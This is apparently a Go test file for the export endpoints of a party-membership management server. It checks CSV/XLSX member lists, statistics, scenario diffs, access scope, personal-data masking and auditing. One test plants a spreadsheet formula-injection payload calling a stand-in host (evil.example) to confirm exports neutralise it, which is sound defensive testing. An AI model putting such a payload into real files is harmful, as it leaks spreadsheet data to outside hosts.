package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"dangbo/internal/auth"
	"dangbo/internal/org"
	"dangbo/internal/testseed"
)

// export gets an export and reads it as rows: CSV through encoding/csv,
// XLSX through excelize.
func (s *testServer) export(path string) (*http.Response, [][]string) {
	s.t.Helper()
	resp := s.get(path)
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		s.t.Fatal(err)
	}
	if resp.StatusCode != 200 {
		s.t.Fatalf("%s: %d %s", path, resp.StatusCode, body)
	}
	if strings.Contains(path, ".xlsx") {
		return resp, xlsxRows(s.t, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte(utf8BOM)))).ReadAll()
	if err != nil {
		s.t.Fatalf("%s: %v", path, err)
	}
	return resp, rows
}

// xlsxRows reads the only sheet of a workbook, as its cells show.
func xlsxRows(t *testing.T, body []byte) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheets := f.GetSheetList()
	if len(sheets) != 1 {
		t.Fatalf("sheets %v", sheets)
	}
	rows, err := f.GetRows(sheets[0])
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// column is the index of header name in rows' first row.
func column(t *testing.T, rows [][]string, name string) int {
	t.Helper()
	i := slices.Index(rows[0], name)
	if i < 0 {
		t.Fatalf("no column %q in %q", name, rows[0])
	}
	return i
}

// randomMemberFilter is a members filter drawn from r, as GraphQL's filter
// and orderBy and as the export's parameters.
func randomMemberFilter(r *rand.Rand) (filter map[string]any, order string, params url.Values) {
	filter, params = map[string]any{}, url.Values{}
	some := func(name, param string, values ...string) {
		if r.IntN(3) > 0 {
			return
		}
		var picked []any
		var ps []string
		for _, v := range values {
			if r.IntN(2) == 0 {
				picked, ps = append(picked, v), append(ps, v)
			}
		}
		filter[name] = picked
		params.Set(param, strings.Join(ps, ","))
	}
	some("status", "status", "PROBATIONARY", "OFFICIAL")
	some("gender", "gender", "MALE", "FEMALE")
	some("politicalTheory", "politicalTheory", "NONE", "ELEMENTARY", "INTERMEDIATE", "ADVANCED")
	some("role", "role", "SECRETARY", "DEPUTY_SECRETARY", "COMMITTEE_MEMBER")
	for _, b := range []string{"probationOverdue", "hasResidence"} {
		if r.IntN(4) == 0 {
			v := r.IntN(2) == 0
			filter[b] = v
			params.Set(b, strconv.FormatBool(v))
		}
	}
	if r.IntN(3) == 0 {
		from := org.DateFrom(1970+r.IntN(50), 1, 1)
		filter["admittedFrom"] = from.String()
		params.Set("admittedFrom", from.String())
		if r.IntN(2) == 0 {
			to := from.AddYears(r.IntN(20))
			filter["admittedTo"] = to.String()
			params.Set("admittedTo", to.String())
		}
	}
	if r.IntN(4) == 0 {
		filter["rated"] = map[string]any{"year": 2020, "ratings": []string{"EXCELLENT", "GOOD"}}
		params.Set("ratedYear", "2020")
		params.Set("rating", "EXCELLENT,GOOD")
	}
	order = []string{"NAME", "ADMITTED_ON", "BIRTH_DATE"}[r.IntN(3)]
	params.Set("orderBy", order)
	return filter, order, params
}

// TestMemberExportIsTheList: whatever the filters and the order, the export
// of a subtree lists exactly the members Org.members lists, in its order,
// as CSV and as XLSX.
func TestMemberExportIsTheList(t *testing.T) {
	s := chartServer(t)
	province := s.orgID("Đảng bộ tỉnh Vĩnh Phúc")
	r := rand.New(rand.NewPCG(testseed.Seed(t, 18), 0))
	for range 12 {
		filter, order, params := randomMemberFilter(r)
		var want []string
		for after := (*string)(nil); ; {
			var d struct {
				Org struct {
					Members struct {
						Nodes    []struct{ ID string }
						PageInfo struct {
							HasNextPage bool
							EndCursor   string
						}
					}
				}
			}
			s.data(s.post(`query($id: ID!, $f: MemberFilter, $o: MemberOrder, $after: String) { org(id: $id) {
				members(subtree: true, first: 500, after: $after, filter: $f, orderBy: $o) { nodes { id } pageInfo { hasNextPage endCursor } } } }`,
				map[string]any{"id": province, "f": filter, "o": order, "after": after}), &d)
			for _, n := range d.Org.Members.Nodes {
				want = append(want, n.ID)
			}
			if !d.Org.Members.PageInfo.HasNextPage {
				break
			}
			after = &d.Org.Members.PageInfo.EndCursor
		}
		params.Set("org", province)
		for _, format := range []string{"csv", "xlsx"} {
			_, rows := s.export("/export/members." + format + "?" + params.Encode())
			var got []string
			for _, row := range rows[1:] {
				got = append(got, row[0])
			}
			if !slices.Equal(got, want) {
				t.Fatalf("%s %s: %d members exported, the list has %d", format, params.Encode(), len(got), len(want))
			}
		}
	}
}

// TestExportsInVietnamese: headers and values are Vietnamese labels by
// default and codes on request; XLSX dates are dates; statistics hold the
// breakdowns GraphQL gives.
func TestExportsInVietnamese(t *testing.T) {
	s := chartServer(t)
	commune := s.orgID("Đảng bộ xã Tam Hồng")
	var d struct {
		Org struct {
			Members struct {
				Nodes []struct {
					ID, FullName, Gender, Status, AdmittedOn string
				}
			}
		}
	}
	s.data(s.post(`query($id: ID!) { org(id: $id) { members(subtree: true, first: 1) { nodes { id fullName gender status admittedOn } } } }`,
		map[string]any{"id": commune}), &d)
	first := d.Org.Members.Nodes[0]
	for _, format := range []string{"csv", "xlsx"} {
		resp, rows := s.export("/export/members." + format + "?org=" + commune)
		if cd := resp.Header.Get("Content-Disposition"); !strings.Contains(cd, "dang-vien-"+commune) || !strings.HasSuffix(cd, "."+format+`"`) {
			t.Errorf("%s: Content-Disposition %q", format, cd)
		}
		if len(rows) != 588 {
			t.Errorf("%s: %d rows, want the header and Tam Hồng's 587 members", format, len(rows))
		}
		row := rows[1]
		gender := map[string]string{"MALE": "Nam", "FEMALE": "Nữ"}[first.Gender]
		admitted, _ := org.ParseDate(first.AdmittedOn)
		wantDate := admitted.String()
		if format == "xlsx" {
			wantDate = admitted.Time().Format("02/01/2006")
		}
		if row[column(t, rows, "Mã đảng viên")] != first.ID || row[column(t, rows, "Họ và tên")] != first.FullName ||
			row[column(t, rows, "Giới tính")] != gender || row[column(t, rows, "Ngày kết nạp")] != wantDate ||
			!strings.HasPrefix(row[column(t, rows, "Tình trạng")], "Đảng viên ") {
			t.Errorf("%s: first row %q, want %+v", format, row, first)
		}
		_, rows = s.export("/export/members." + format + "?codes=1&org=" + commune)
		if row := rows[1]; row[column(t, rows, "gender")] != first.Gender || row[column(t, rows, "status")] != first.Status {
			t.Errorf("%s with codes: %q", format, row)
		}
	}

	for _, format := range []string{"csv", "xlsx"} {
		_, rows := s.export("/export/statistics." + format + "?year=2020&org=" + commune)
		if !slices.Equal(rows[0], []string{"Mục", "Chỉ tiêu", "Số lượng", "Tỷ lệ (%)"}) {
			t.Fatalf("%s: header %q", format, rows[0])
		}
		if !slices.ContainsFunc(rows, func(r []string) bool { return slices.Equal(r[:3], []string{"Tổng hợp", "Đảng viên", "587"}) }) {
			t.Errorf("%s: no member count of 587 in %q", format, rows)
		}
		_, codes := s.export("/export/statistics." + format + "?codes=1&year=2020&org=" + commune)
		for _, by := range []string{"STATUS", "GENDER", "AGE_BAND", "ETHNICITY", "POLITICAL_THEORY", "MEMBER_RATING", "ORG_RATING", "SECRETARY_HEADS_UNIT"} {
			var want struct {
				Statistics struct{ Breakdown []breakdownRow }
			}
			s.data(s.post(`query($id: ID!, $by: BreakdownBy!) { statistics(orgId: $id) { breakdown(by: $by, year: 2020) { key label count share } } }`,
				map[string]any{"id": commune, "by": by}), &want)
			var got []string
			for _, r := range codes {
				if r[0] == by {
					got = append(got, r[1]+"="+r[2])
				}
			}
			var wantRows []string
			for _, r := range want.Statistics.Breakdown {
				wantRows = append(wantRows, r.Key+"="+strconv.Itoa(r.Count))
			}
			if !slices.Equal(got, wantRows) {
				t.Errorf("%s %s: %q, want %q", format, by, got, wantRows)
			}
		}
	}
}

// TestExportsAreText: a name made like a formula stays text: quoted in CSV,
// a string cell without a formula in XLSX.
func TestExportsAreText(t *testing.T) {
	s := chartServer(t)
	commune := s.orgID("Đảng bộ xã Tam Hồng")
	const name = `=HYPERLINK("http://evil.example/?"&A1,"An")`
	ctx := org.WithPrincipal(t.Context(), auth.DevPrincipal())
	o, err := s.svc.CreateOrg(ctx, org.NewOrg{ParentID: commune, Name: name, Kind: org.Cell, Sector: org.SectorVillage})
	if err != nil {
		t.Fatal(err)
	}
	cell := o.ID
	if _, err := s.svc.CreateMember(ctx, org.NewMember{CellID: cell, FullName: "Nguyễn Văn An", Status: org.Official, AdmittedOn: org.DateFrom(2010, 1, 1)}); err != nil {
		t.Fatal(err)
	}
	_, rows := s.export("/export/members.csv?org=" + cell)
	if got := rows[1][column(t, rows, "Chi bộ")]; got != "'"+name {
		t.Errorf("CSV cell %q", got)
	}
	resp := s.get("/export/members.xlsx?org=" + cell)
	body, _ := io.ReadAll(resp.Body)
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	ref, _ := excelize.CoordinatesToCellName(column(t, rows, "Chi bộ")+1, 2)
	value, _ := f.GetCellValue(sheet, ref)
	formula, _ := f.GetCellFormula(sheet, ref)
	kind, _ := f.GetCellType(sheet, ref)
	if value != name || formula != "" || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
		t.Errorf("XLSX cell %s: %q, formula %q, type %v", ref, value, formula, kind)
	}
}

// TestExportsInScope: an export names nothing outside the caller's scope and
// masks personal data as GraphQL does; a refused export writes no file and
// is audited, as is every export that ran.
func TestExportsInScope(t *testing.T) {
	w := newAccessWorld(t)
	villageName, agencyCellName := "Chi bộ thôn Đông", "Chi bộ Phòng Ngân sách"

	// An officer of the bloc reads personal data; the official's residence
	// cell lies outside the bloc.
	w.s.token = w.mint([]org.AccessRole{org.Officer}, w.bloc)
	for _, format := range []string{"csv", "xlsx"} {
		resp := w.s.get("/export/members." + format + "?org=" + w.bloc)
		body, _ := io.ReadAll(resp.Body)
		_, rows := w.s.export("/export/members." + format + "?org=" + w.bloc)
		if len(rows) != 2 || rows[1][0] != w.official || rows[1][column(t, rows, "Chi bộ")] != agencyCellName ||
			rows[1][column(t, rows, "Mã chi bộ nơi cư trú")] != "" || rows[1][column(t, rows, "Điện thoại")] != "0912 000 111" {
			t.Errorf("officer of the bloc, %s: %q", format, rows)
		}
		if format == "csv" && (bytes.Contains(body, []byte(w.village)) || bytes.Contains(body, []byte(villageName))) {
			t.Errorf("the export names the village outside the bloc: %s", body)
		}
	}

	// A viewer of the commune sees the villager, without personal data, and
	// may not filter on it.
	w.s.token = w.mint([]org.AccessRole{org.Viewer}, w.commune)
	_, rows := w.s.export("/export/members.csv?org=" + w.commune)
	if len(rows) != 2 || rows[1][0] != w.villager {
		t.Fatalf("viewer of the commune: %q", rows)
	}
	for _, personal := range []string{"Ngày sinh", "Dân tộc", "Điện thoại", "Email", "Địa chỉ"} {
		if v := rows[1][column(t, rows, personal)]; v != "" {
			t.Errorf("a viewer's export shows %s %q", personal, v)
		}
	}
	_, stats := w.s.export("/export/statistics.csv?codes=1&org=" + w.commune)
	if slices.ContainsFunc(stats, func(r []string) bool { return r[0] == "AGE_BAND" || r[0] == "ETHNICITY" }) {
		t.Errorf("a viewer's statistics break down personal data: %q", stats)
	}

	for _, c := range []struct {
		path, target, code string
	}{
		{"/export/members.csv?org=" + w.province, w.province, org.ENotFound},
		{"/export/members.xlsx?org=" + w.bloc, w.bloc, org.ENotFound},
		{"/export/members.csv?bornFrom=1980&org=" + w.commune, w.commune, org.EForbidden},
		{"/export/members.xlsx?status=RETIRED&org=" + w.commune, w.commune, org.EInvalid},
		{"/export/members.csv?orderBy=AGE&org=" + w.commune, w.commune, org.EInvalid},
		{"/export/members.csv", "", org.EInvalid},
		{"/export/statistics.xlsx?org=" + w.province, w.province, org.ENotFound},
		{"/export/statistics.csv?year=x&org=" + w.commune, w.commune, org.EInvalid},
		{"/export/scenario-diff.csv?scenario=nope", "nope", org.ENotFound},
	} {
		resp := w.s.get(c.path)
		body, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != httpStatus(org.Errorf(c.code, "")) || resp.Header.Get("Content-Disposition") != "" ||
			!strings.Contains(string(body), `"code":"`+c.code+`"`) {
			t.Errorf("%s: %d %q %s", c.path, resp.StatusCode, resp.Header.Get("Content-Disposition"), body)
		}
		if strings.Contains(string(body), agencyCellName) || strings.Contains(string(body), "Khối") {
			t.Errorf("%s: the refusal names what the caller may not see: %s", c.path, body)
		}
	}

	page, err := w.s.svc.AuditLog(org.WithPrincipal(context.Background(), org.System), org.AuditQuery{First: 100})
	if err != nil {
		t.Fatal(err)
	}
	var audited []string
	for _, e := range page.Entries {
		if strings.HasPrefix(e.Action, "export") {
			audited = append(audited, e.Action+" "+e.Target+" "+e.Outcome)
		}
	}
	for _, want := range []string{
		"exportMembers " + w.bloc + " ", "exportMembers " + w.commune + " ", "exportStatistics " + w.commune + " ",
		"exportMembers " + w.province + " " + org.ENotFound, "exportMembers " + w.commune + " " + org.EForbidden,
		"exportMembers " + w.commune + " " + org.EInvalid, "exportMembers  " + org.EInvalid,
		"exportStatistics " + w.province + " " + org.ENotFound, "exportStatistics " + w.commune + " " + org.EInvalid,
		"exportScenarioDiff nope " + org.ENotFound,
	} {
		if !slices.Contains(audited, want) {
			t.Errorf("not audited: %q in %q", want, audited)
		}
	}
}

// TestScenarioDiffExport: the board's export of a scenario lists the
// organisations scenarioDiff lists, with their changes, every figure and the
// findings the scenario adds.
func TestScenarioDiffExport(t *testing.T) {
	w := newScenarioWorld(t)
	var created struct{ CreateScenario struct{ ID string } }
	w.s.data(w.s.post(`mutation($d: ID!) { createScenario(name: "Sáp nhập", within: $d) { id } }`, map[string]any{"d": w.district}), &created)
	id := created.CreateScenario.ID
	w.s.data(w.s.post(`mutation($id: ID!, $v: ID!, $to: ID!, $c: ID!) { addScenarioOperations(id: $id, operations: [
		{dissolveOrg: {id: $v, membersTo: $to}}, {renameOrg: {id: $c, name: "Đảng bộ xã Tam Hồng mới"}}]) { id } }`,
		map[string]any{"id": id, "v": w.school, "to": w.village, "c": w.commune}), &struct{}{})
	var d struct {
		ScenarioDiff struct {
			Figures []struct {
				Name            string
				AsIs, ToBe, Net float64
			}
			Nodes []struct {
				ID          string
				Changes     []string
				MemberDelta int
			}
			ViolationsAdded, ViolationsResolved []struct{ Rule string }
		}
	}
	w.s.data(w.s.post(`query($id: ID!) { scenarioDiff(id: $id) { figures { name asIs toBe net } nodes { id changes memberDelta } violationsAdded { rule } violationsResolved { rule } } }`,
		map[string]any{"id": id}), &d)
	if len(d.ScenarioDiff.Nodes) < 2 || len(d.ScenarioDiff.ViolationsResolved) == 0 {
		t.Fatalf("the scenario changes too little to test: %+v", d)
	}
	for _, format := range []string{"csv", "xlsx"} {
		resp, rows := w.s.export("/export/scenario-diff." + format + "?codes=1&scenario=" + id)
		if !strings.Contains(resp.Header.Get("Content-Disposition"), "phuong-an-"+id+"."+format) {
			t.Errorf("%s: %q", format, resp.Header.Get("Content-Disposition"))
		}
		var nodes, figures []string
		added, resolved := 0, 0
		for _, r := range rows[1:] {
			for len(r) < 8 {
				r = append(r, "") // XLSX rows end at their last cell
			}
			switch r[0] {
			case "NODE":
				nodes = append(nodes, r[1]+" "+r[3]+" "+r[6])
			case "FIGURE":
				figures = append(figures, r[1]+" "+r[4]+" "+r[5]+" "+r[6])
			case "ADDED_FINDING":
				added++
			case "RESOLVED_FINDING":
				resolved++
			}
		}
		var wantNodes, wantFigures []string
		for _, n := range d.ScenarioDiff.Nodes {
			wantNodes = append(wantNodes, n.ID+" "+strings.Join(n.Changes, "; ")+" "+strconv.Itoa(n.MemberDelta))
		}
		num := func(f float64) string { return strconv.FormatFloat(f, 'f', -1, 64) }
		for _, f := range d.ScenarioDiff.Figures {
			wantFigures = append(wantFigures, f.Name+" "+num(f.AsIs)+" "+num(f.ToBe)+" "+num(f.Net))
		}
		if !slices.Equal(nodes, wantNodes) || !slices.Equal(figures, wantFigures) || added != len(d.ScenarioDiff.ViolationsAdded) ||
			resolved != len(d.ScenarioDiff.ViolationsResolved) {
			t.Errorf("%s: nodes %q, want %q; figures %q, want %q; findings %d added and %d resolved, want %d and %d", format, nodes,
				wantNodes, figures, wantFigures, added, resolved, len(d.ScenarioDiff.ViolationsAdded), len(d.ScenarioDiff.ViolationsResolved))
		}
		_, labelled := w.s.export("/export/scenario-diff." + format + "?scenario=" + id)
		if !slices.Equal(labelled[0], []string{"Mục", "Mã", "Tên", "Thay đổi", "Trước", "Sau", "Chênh lệch", "Chi tiết"}) ||
			!slices.ContainsFunc(labelled, func(r []string) bool {
				return r[1] == w.commune && r[2] == "Đảng bộ xã Tam Hồng mới" && strings.Contains(r[3], "Đổi tên")
			}) {
			t.Errorf("%s in Vietnamese: %q", format, labelled)
		}
	}
}
